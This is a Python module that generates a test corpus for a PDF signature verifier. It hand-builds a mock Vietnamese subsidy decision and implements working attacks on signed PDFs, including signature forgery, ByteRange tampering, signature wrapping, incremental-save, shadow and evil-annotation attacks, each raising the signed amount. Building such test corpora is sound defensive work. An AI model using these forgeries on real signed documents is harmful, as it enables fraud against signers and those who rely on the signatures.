"""Hand-written PDFs and byte-level attacks on signed PDFs, for make_corpus.py.

The base documents are classic PDFs written object by object (uncompressed content,
standard Helvetica), so object numbers and offsets are known and every attack is a plain
byte edit or a hand-written incremental update (ISO 32000-1 §7.5.6). The attacks follow
their published descriptions: pdf-insecurity.org (USF, ISA, SWA), Mainka et al., "Shadow
Attacks", NDSS 2021, and Rohlmann et al., "Breaking the Specification: PDF
Certification", IEEE S&P 2021. Signing, and judging the results, is left to make_corpus.py.
"""

from __future__ import annotations

import hashlib
import io
import re

# --------------------------------------------------------------------------------------
# Small PDFs written by hand.
# --------------------------------------------------------------------------------------

def stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(body), extra, body)


def write_pdf(objects: dict[int, bytes], root: int, info: int | None = None) -> bytes:
    """A classic PDF (header, objects, xref table, trailer) from numbered object bodies."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, objects[num])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        if num in offsets:
            out += b"%010d 00000 n \n" % offsets[num]
        else:
            out += b"0000000000 00000 f \n"
    trailer = b"/Size %d /Root %d 0 R" % (size, root)
    if info:
        trailer += b" /Info %d 0 R" % info
    doc_id = hashlib.md5(bytes(out)).hexdigest().encode()
    trailer += b" /ID [<%s> <%s>]" % (doc_id, doc_id)
    out += b"trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (trailer, xref)
    return bytes(out)


def text_line(x: float, y: float, size: float, text: str, font: str = "F1") -> bytes:
    return b"BT /%s %g Tf %g %g Td (%s) Tj ET" % (font.encode(), size, x, y, text.encode("latin-1"))


PAGE_W, PAGE_H = 420, 297   # A5 landscape: small pages keep the corpus small
AMOUNT_Y = 150              # baseline of the amount line, the target of most attacks
HEADER = [
    text_line(40, 250, 14, "UY BAN NHAN DAN TINH LAO CAI"),
    text_line(40, 225, 12, "QUYET DINH so 123/QD-UBND ngay 2026-11-22"),
    text_line(40, 190, 11, "Ho kinh doanh: Nguyen Van An, CCCD 001089012345"),
]
AMOUNT = text_line(40, AMOUNT_Y, 11, "So tien ho tro: 1,000,000 VND")
FOOTER = text_line(40, 100, 9, "Van ban co hieu luc ke tu ngay ky.")
HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
# The same font with character code 49 ("1") drawn with the glyph "nine": every 1 shows as 9.
HELVETICA_1_AS_9 = (b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding "
                    b"<< /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>")
INFO = b"<< /Title (Quyet dinh ho tro - kyso verify corpus) /Producer (kyso make_corpus.py) >>"


def base_amount() -> bytes:
    """One page: a decision granting 1,000,000 VND. Objects: 1 catalog, 2 pages, 3 page,
    4 resources, 5 content, 6 font, 7 info."""
    content = b"\n".join(HEADER + [AMOUNT, FOOTER])
    return write_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources 4 0 R /Contents 5 0 R >>"
           % (PAGE_W, PAGE_H),
        4: b"<< /Font << /F1 6 0 R >> >>",
        5: stream(content),
        6: HELVETICA,
        7: INFO,
    }, root=1, info=7)


# Shadow document (Shadow Attacks, NDSS 2021): what the signer sees is the same decision,
# but the signed revision also carries content prepared for later.
#   5  content: the decision with the amount 9,000,000 VND (drawn first, then covered)
#   10 content: "cover": a white box over the amount line and the amount 1,000,000 VND,
#      then the overlay XObject /Ov (hidden: its optional content group is OFF)
#   8  font: Helvetica drawing every "1" as "9" (unreferenced)
#   9  content: a complete other page text (unreferenced)
#   11 form XObject overlay: white box and "So tien ho tro: 50,000,000 VND", /OC 12
#   12 optional content group; 13 /OCProperties with the group OFF
COVER_BOX = b"1 g 35 %d 330 18 re f 0 g" % (AMOUNT_Y - 5)


def base_shadow() -> bytes:
    hidden_amount = text_line(40, AMOUNT_Y, 11, "So tien ho tro: 9,000,000 VND")
    real = b"\n".join(HEADER + [hidden_amount, FOOTER])
    cover = b"\n".join([b"q", COVER_BOX, AMOUNT, b"Q", b"q /Ov Do Q"])
    other = b"\n".join(HEADER[:2] + [
        text_line(40, 190, 11, "Ho kinh doanh: Tran Van Gia, CCCD 001099000000"),
        text_line(40, AMOUNT_Y, 11, "So tien ho tro: 90,000,000 VND"),
        FOOTER])
    overlay = b"\n".join([COVER_BOX, text_line(40, AMOUNT_Y, 11, "So tien ho tro: 50,000,000 VND")])
    return write_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R /OCProperties 13 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources 4 0 R "
           b"/Contents [5 0 R 10 0 R] >>" % (PAGE_W, PAGE_H),
        4: b"<< /Font << /F1 6 0 R >> /XObject << /Ov 11 0 R >> >>",
        5: stream(real),
        6: HELVETICA,
        7: INFO,
        8: HELVETICA_1_AS_9,
        9: stream(other),
        10: stream(cover),
        11: stream(overlay, b" /Type /XObject /Subtype /Form /BBox [0 0 %d %d] /OC 12 0 R "
                            b"/Resources << /Font << /F1 6 0 R >> >>" % (PAGE_W, PAGE_H)),
        12: b"<< /Type /OCG /Name (Overlay) >>",
        13: b"<< /OCGs [12 0 R] /D << /Order [12 0 R] /ON [] /OFF [12 0 R] >> >>",
    }, root=1, info=7)


def base_form() -> bytes:
    """One page with an empty text field "ho_ten" (applicant's name) for form filling.
    Objects: 1 catalog, 2 pages, 3 page, 4 resources, 5 content, 6 font, 7 info,
    8 AcroForm, 9 field/widget, 10 its empty appearance."""
    content = b"\n".join(HEADER[:2] + [text_line(40, 190, 11, "Ho ten nguoi nop:"), FOOTER])
    return write_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 8 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %d %d] /Resources 4 0 R /Contents 5 0 R "
           b"/Annots [9 0 R] >>" % (PAGE_W, PAGE_H),
        4: b"<< /Font << /F1 6 0 R >> >>",
        5: stream(content),
        6: HELVETICA,
        7: INFO,
        8: b"<< /Fields [9 0 R] /DA (/Helv 11 Tf 0 g) /DR << /Font << /Helv 6 0 R >> >> >>",
        9: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ho_ten) /V () /DA (/Helv 11 Tf 0 g) "
           b"/Rect [140 185 380 203] /F 4 /P 3 0 R /AP << /N 10 0 R >> >>",
        10: stream(b"/Tx BMC EMC", b" /Type /XObject /Subtype /Form /BBox [0 0 240 18] "
                                   b"/Resources << /Font << /Helv 6 0 R >> >>"),
    }, root=1, info=7)


# --------------------------------------------------------------------------------------
# Incremental updates written by hand (ISO 32000-1 §7.5.6).
# --------------------------------------------------------------------------------------

def last_startxref(data: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", data)[-1])


def trailer_value(data: bytes, key: bytes) -> bytes:
    """The value of `key` in the last trailer dictionary (classic trailers only)."""
    trailers = re.findall(rb"trailer\s*<<(.*?)>>\s*startxref", data, re.S)
    if trailers:
        match = re.search(rb"/" + key + rb"\s+(\d+ \d+ R|\d+)", trailers[-1])
        if match:
            return match.group(1)
    # Cross-reference stream: read it with pikepdf.
    import pikepdf
    with pikepdf.open(io.BytesIO(data)) as pdf:
        value = pdf.trailer.get("/" + key.decode())
        if isinstance(value, pikepdf.Object) and value.is_indirect:
            return b"%d %d R" % value.objgen
        return str(int(value)).encode()


def carried_trailer_entries(trailer: bytes) -> bytes:
    """/Info and /ID of a trailer: ISO 32000-1 §7.5.6 has an update's trailer repeat the
    previous one's entries (but /Prev)."""
    carried = b""
    for key in (rb"/Info\s+\d+ \d+ R", rb"/ID\s*\[[^\]]*\]"):
        match = re.search(key, trailer)
        if match:
            carried += b" " + match.group(0)
    return carried


def append_update(data: bytes, objects: dict[int, bytes], free: tuple[int, ...] = (),
                  point: dict[int, int] | None = None) -> bytes:
    """Append an incremental update: `objects` (new bodies, old or new numbers) and an xref
    section for them, for the objects in `free` (marked free) and for the objects in
    `point` (number -> an offset already in the file), then a trailer."""
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (num, objects[num])
    xref = len(out)
    entries = {num: b"%010d 00000 n \n" % off for num, off in offsets.items()}
    for num in free:
        entries[num] = b"0000000000 00001 f \n"
    for num, offset in (point or {}).items():
        entries[num] = b"%010d 00000 n \n" % offset
    out += b"xref\n"
    for num in sorted(entries):
        out += b"%d 1\n%s" % (num, entries[num])
    size = max(int(trailer_value(data, b"Size")), max(entries) + 1)
    root = trailer_value(data, b"Root")
    carried = carried_trailer_entries(re.findall(rb"trailer\s*<<(.*?)>>\s*startxref", data, re.S)[-1])
    out += b"trailer\n<< /Size %d /Root %s%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, root, carried, last_startxref(data), xref)
    return bytes(out)


def object_body(data: bytes, num: int) -> bytes:
    """The last body of object `num` written in `data` (uncompressed objects only)."""
    bodies = re.findall(rb"(?<![0-9])%d 0 obj\s*(.*?)\s*endobj" % num, data, re.S)
    return bodies[-1]


def same_length(old: bytes, new: bytes) -> bytes:
    """`new` padded with spaces to the length of `old` (in-place edits keep every offset)."""
    assert len(new) <= len(old), (old, new)
    return new + b" " * (len(old) - len(new))


# --------------------------------------------------------------------------------------
# Signatures as written in the bytes.
# --------------------------------------------------------------------------------------

def signature_gap(data: bytes, nth: int = 0) -> tuple[int, int, int, int]:
    """The /ByteRange of the `nth` signature dictionary written in `data`, as written."""
    ranges = re.findall(rb"/ByteRange\s*\[\s*(\d+) (\d+) (\d+) (\d+)\s*\]", data)
    return tuple(int(x) for x in ranges[nth])


def cms_of(data: bytes, nth: int = 0) -> bytes:
    """The DER CMS in the `nth` signature's /Contents (the placeholder's zero padding cut)."""
    _, a, b, _ = signature_gap(data, nth)
    raw = bytes.fromhex(data[a + 1:b - 1].decode())
    first = raw[1]
    if first < 0x80:
        return raw[:2 + first]
    count = first & 0x7F
    return raw[:2 + count + int.from_bytes(raw[2:2 + count], "big")]


def next_object_number(data: bytes) -> int:
    return int(trailer_value(data, b"Size"))


def page_with(data: bytes, page: int, old: bytes, new: bytes) -> bytes:
    body = object_body(data, page)
    assert old in body, body
    return body.replace(old, new, 1)


# --------------------------------------------------------------------------------------
# The attacks. Each takes the victim's signed bytes and returns the attacked bytes.
# --------------------------------------------------------------------------------------

AMOUNT_1 = b"So tien ho tro: 1,000,000 VND"
AMOUNT_9 = b"So tien ho tro: 9,000,000 VND"
NEW_AMOUNT = b"\n".join([b"q", COVER_BOX, text_line(40, AMOUNT_Y, 11, AMOUNT_9.decode()), b"Q"])


def flip_amount(data: bytes) -> bytes:
    """Change "1,000,000" into "9,000,000" in the page content where it is written."""
    assert data.count(AMOUNT_1) == 1
    return data.replace(AMOUNT_1, AMOUNT_9)


def usf(data: bytes, key: bytes, replacement: bytes | None) -> bytes:
    """Universal signature forgery (pdf-insecurity.org, USF): the signature dictionary keeps
    the signer's name and certificate, but /Contents or /ByteRange is removed (None),
    null, or empty, so a viewer that skips what it cannot check shows the signature as
    present; the attacker's content change (the amount) goes with it. Edited in place,
    padded with spaces, so every xref offset stays right."""
    data = flip_amount(data)
    if key == b"/Contents":
        match = re.search(rb"/Contents\s*<[0-9A-Fa-f]*>", data)
    else:
        match = re.search(rb"/ByteRange\s*\[[^\]]*\] *", data)
    old = match.group(0)
    new = b"" if replacement is None else key + b" " + replacement
    return data[:match.start()] + same_length(old, new) + data[match.end():]


def edit_byte_range(data: bytes, new: tuple[int, int, int, int]) -> bytes:
    match = re.search(rb"/ByteRange\s*\[[^\]]*\] *", data)
    text = b"/ByteRange [%d %d %d %d]" % new
    return data[:match.start()] + same_length(match.group(0), text) + data[match.end():]


def byte_range_shortened(data: bytes) -> bytes:
    """/ByteRange cut so that its second range stops before the end of the signed
    revision (its xref and trailer are left out); the amount is changed too."""
    _, a, b, c = signature_gap(data)
    tail = len(data) - data.rfind(b"xref")
    return flip_amount(edit_byte_range(data, (0, a, b, c - tail)))


def byte_range_overlapping(data: bytes) -> bytes:
    """/ByteRange whose second range starts inside the first one and runs over the
    /Contents value; the amount is changed too."""
    _, a, b, c = signature_gap(data)
    start = a - 64
    return flip_amount(edit_byte_range(data, (0, a, start, len(data) - start)))


def hidden_object(num: int, body: bytes) -> bytes:
    return b"%d 0 obj\n%s\nendobj\n" % (num, body)


def second_contents(data: bytes) -> bytes:
    """The /ByteRange gap carries a second /Contents. The gap is never hashed, so the
    attacker rewrites it (same length): the genuine CMS stays as the first /Contents,
    then a second /Contents whose literal string hides a new body for the page content
    object 5 (amount 9,000,000). An update of nothing but an xref section then points
    object 5 at that hidden body. Every signed byte is unchanged and the update adds no
    object, so a verifier that hashes the /ByteRange and looks for new objects in later
    revisions sees nothing; a viewer follows the xref into the gap."""
    _, a, b, _ = signature_gap(data)
    cms_hex = cms_of(data).hex().upper().encode()
    body = b"\n".join(HEADER + [AMOUNT_9.join(AMOUNT.split(AMOUNT_1)), FOOTER])
    prefix = b"<" + cms_hex + b">\n/Contents ("
    hidden_at = a + len(prefix)
    hidden = hidden_object(5, stream(body))
    assert hidden.count(b"(") == hidden.count(b")") and b"\\" not in hidden
    gap = prefix + hidden
    gap = gap + b" " * (b - a - len(gap) - 1) + b")"
    assert len(gap) == b - a
    return append_update(data[:a] + gap + data[b:], {}, point={5: hidden_at})


def signature_wrapping(data: bytes) -> bytes:
    """Signature wrapping (pdf-insecurity.org, SWA). pyHanko writes /ByteRange after
    /Contents, so it lies in the second signed range. The attacker moves that whole
    second range, unchanged, to the end of the file and writes in the widened gap: the
    rest of the signature dictionary with a /ByteRange pointing at the moved copy, a new
    xref table exactly where the old startxref (inside the moved copy) points, and a new
    body for the page content object 5. The hashed bytes are the signed bytes, byte for
    byte; the viewer reads the attacker's xref and shows the new amount."""
    _, a, b, c = signature_gap(data)
    second = data[b:b + c]
    assert b + c == len(data)
    old_xref = last_startxref(data)
    assert b < old_xref < b + c
    contents = data[a:b]
    dict_tail = re.match(rb"\s*/ByteRange\s*\[[^\]]*\]\s*(.*?>>\s*endobj\s*)", second, re.S).group(1)
    # Entries of the signed revision's xref section, re-used as they are (their objects
    # all start before the gap).
    section = data[old_xref:data.index(b"trailer", old_xref)]
    entries = {}
    lines = section.split(b"\n")[1:]
    i = 0
    while i < len(lines):
        parts = lines[i].split()
        if len(parts) == 2:
            first, count = int(parts[0]), int(parts[1])
            for k in range(count):
                entries[first + k] = lines[i + 1 + k].strip()
            i += 1 + count
        else:
            i += 1
    body = b"\n".join(HEADER + [AMOUNT_9.join(AMOUNT.split(AMOUNT_1)), FOOTER])
    hidden = hidden_object(5, stream(body))
    trailer_old = re.search(rb"trailer\s*<<(.*?)>>", data[old_xref:], re.S).group(1)
    root = re.search(rb"/Root\s+(\d+ \d+ R)", trailer_old).group(1)
    prev = int(re.search(rb"/Prev\s+(\d+)", trailer_old).group(1))
    size = int(re.search(rb"/Size\s+(\d+)", trailer_old).group(1))

    def build(new_start: int) -> bytes:
        head = data[:a] + contents + b"\n/ByteRange [0 %d %d %d]\n" % (a, new_start, c) + dict_tail
        assert len(head) <= old_xref, "no room before the old xref offset"
        head += b" " * (old_xref - len(head))
        table = dict(entries)
        # The hidden body follows the xref section; its offset is fixed below.
        xref_text = lambda off5: b"xref\n" + b"".join(
            b"%d 1\n%s \n" % (n, (b"%010d 00000 n" % off5) if n == 5 else table[n])
            for n in sorted(set(table) | {5})) + (
            b"trailer\n<< /Size %d /Root %s%s /Prev %d >>\n" % (
                size, root, carried_trailer_entries(trailer_old), prev))
        probe = xref_text(0)
        off5 = len(head) + len(probe)
        return head + xref_text(off5) + hidden

    start = len(build(0))
    start = len(build(start))
    head = build(start)
    assert len(head) == start
    return head + second


def isa_new_content(data: bytes) -> bytes:
    """Incremental saving attack (ISA): an update, with no signature, that adds a content
    stream drawing a white box and a new amount over the old one, and a new revision of
    the page listing it after the signed content."""
    num = next_object_number(data)
    page = page_with(data, 3, b"/Contents 5 0 R", b"/Contents [ 5 0 R %d 0 R ]" % num)
    return append_update(data, {num: stream(NEW_AMOUNT), 3: page})


def isa_xref_only(data: bytes) -> bytes:
    """ISA variant: the update's xref section lists only the old object number 5 (the
    page content), pointing it at a new body with the new amount; no new object number,
    no new page, no new signature."""
    body = b"\n".join(HEADER + [AMOUNT_9.join(AMOUNT.split(AMOUNT_1)), FOOTER])
    return append_update(data, {5: stream(body)})


def object_replaced(data: bytes) -> bytes:
    """A signed object replaced by a new revision: the font object 6 comes back with an
    encoding that draws character code 49 ("1") with the glyph "nine", so every 1 on the
    page shows as 9 (1,000,000 VND becomes 9,000,000 VND) while the content stream, the
    page and the text a copy-paste gives are unchanged."""
    return append_update(data, {6: HELVETICA_1_AS_9})


def shadow_hide(data: bytes) -> bytes:
    """Shadow attack, hide (NDSS 2021): at signing, object 10 draws a white box and the
    amount 1,000,000 over the amount 9,000,000 drawn by object 5. The update writes only
    a new revision of the page whose /Contents drops object 10: the cover is gone and
    the 9,000,000 prepared under it shows. No new content is written."""
    page = page_with(data, 3, b"/Contents [ 5 0 R 10 0 R ]", b"/Contents 5 0 R")
    return append_update(data, {3: page})


def shadow_replace_font(data: bytes) -> bytes:
    """Shadow attack, replace: the signed revision carries an unused font object 8 that
    draws "1" as "9". The update switches the page resources' /F1 to it."""
    return append_update(data, {4: b"<< /Font << /F1 8 0 R >> /XObject << /Ov 11 0 R >> >>"})


def shadow_replace_overlay(data: bytes) -> bytes:
    """Shadow attack, replace via an overlay prepared at signing: the form XObject 11
    (white box, 50,000,000 VND) is drawn by the signed page content but belongs to an
    optional content group that is OFF; the update turns the group ON."""
    return append_update(data, {13: b"<< /OCGs [12 0 R] /D << /Order [12 0 R] /ON [12 0 R] /OFF [] >> >>"})


def shadow_hide_and_replace(data: bytes) -> bytes:
    """Shadow attack, hide-and-replace: the signed revision carries an unreferenced
    content stream 9 with a whole other decision (another beneficiary, 90,000,000 VND);
    the update points the page's /Contents at it."""
    page = page_with(data, 3, b"/Contents [ 5 0 R 10 0 R ]", b"/Contents 9 0 R")
    return append_update(data, {3: page})


def annotation_appearance(rect_w: float, rect_h: float) -> bytes:
    body = b"\n".join([b"1 g 0 0 %g %g re f 0 g" % (rect_w, rect_h),
                       b"BT /F1 11 Tf 5 5 Td (%s) Tj ET" % AMOUNT_9])
    return stream(body, b" /Type /XObject /Subtype /Form /BBox [0 0 %g %g] "
                        b"/Resources << /Font << /F1 6 0 R >> >>" % (rect_w, rect_h))


def evil_annotation(data: bytes, subtype: bytes) -> bytes:
    """Evil annotation attack (IEEE S&P 2021): after a certification with /P 2 (form
    filling only), an update adds an annotation (FreeText or Stamp) whose appearance
    is a white box with the new amount, laid exactly over the old amount."""
    annot, ap = next_object_number(data), next_object_number(data) + 1
    rect = (35, AMOUNT_Y - 5, 365, AMOUNT_Y + 13)
    w, h = rect[2] - rect[0], rect[3] - rect[1]
    extra = b" /DA (/F1 11 Tf 0 g) /Contents (So tien ho tro: 9,000,000 VND)" if subtype == b"FreeText" \
        else b" /Name /Approved"
    annotation = (b"<< /Type /Annot /Subtype /%s /Rect [%d %d %d %d] /F 4 /P 3 0 R "
                  b"/AP << /N %d 0 R >>%s >>" % ((subtype,) + rect + (ap,) + (extra,)))
    page = object_body(data, 3)
    page = re.sub(rb"/Annots\s*\[([^\]]*)\]", lambda m: b"/Annots [" + m.group(1) + b" %d 0 R ]" % annot,
                  page, count=1)
    return append_update(data, {annot: annotation, ap: annotation_appearance(w, h), 3: page})


def flip_signature_value(data: bytes) -> bytes:
    """Damage the signature value in the CMS (last byte of SignerInfo.signature), inside
    the /Contents gap: the hashed bytes are unchanged."""
    from asn1crypto import cms
    _, a, b, _ = signature_gap(data)
    info = cms.ContentInfo.load(cms_of(data))
    signer = info["content"]["signer_infos"][0]
    value = bytearray(signer["signature"].native)
    value[-1] ^= 0x01
    signer["signature"] = bytes(value)
    new = info.dump(force=True).hex().upper().encode()
    hexlen = b - a - 2
    assert len(new) <= hexlen
    return data[:a] + b"<" + new + b"0" * (hexlen - len(new)) + b">" + data[b:]
